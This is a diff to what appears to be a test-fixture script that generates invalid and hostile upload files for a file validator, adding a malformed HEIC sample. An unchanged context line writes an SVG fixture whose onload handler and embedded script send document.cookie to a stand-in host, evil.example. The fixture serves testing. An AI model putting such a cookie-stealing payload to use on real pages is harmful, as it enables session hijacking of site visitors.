@@ -154,6 +154,10 @@ writeFileSync(at('gimp.jpg'), withSegment(good, xmpSegment('GIMP 2.10.36')));
 // Not pictures at all.
 writeFileSync(at('empty.jpg'), Buffer.alloc(0));
 writeFileSync(at('random.jpg'), randomBytes(100_000));
+// A HEIC whose boxes are in order but hold no picture: only the decoder can tell.
+const ftyp = Buffer.from([0, 0, 0, 24, ...Buffer.from('ftypheic'), 0, 0, 0, 0, ...Buffer.from('mif1heic')]);
+const mdat = Buffer.concat([Buffer.from([0, 1, 0x86, 0xa0]), Buffer.from('mdat'), randomBytes(100_000 - 8)]);
+writeFileSync(at('garbage.heic'), Buffer.concat([ftyp, mdat]));
 writeFileSync(at('notes.txt'), 'My certificate number is 91310000MA1FL0000X.\n'.repeat(2000));
 writeFileSync(at('scan.pdf'), `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n${'% padding\n'.repeat(6000)}trailer << /Root 1 0 R >>\n%%EOF\n`);
 writeFileSync(at('script.svg'), `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="1000" onload="fetch('https://evil.example/steal')"><script>fetch('https://evil.example/x', { method: 'POST', body: document.cookie })</script><rect width="1600" height="1000" fill="red"/>${'<!-- padding -->'.repeat(4000)}</svg>\n`);
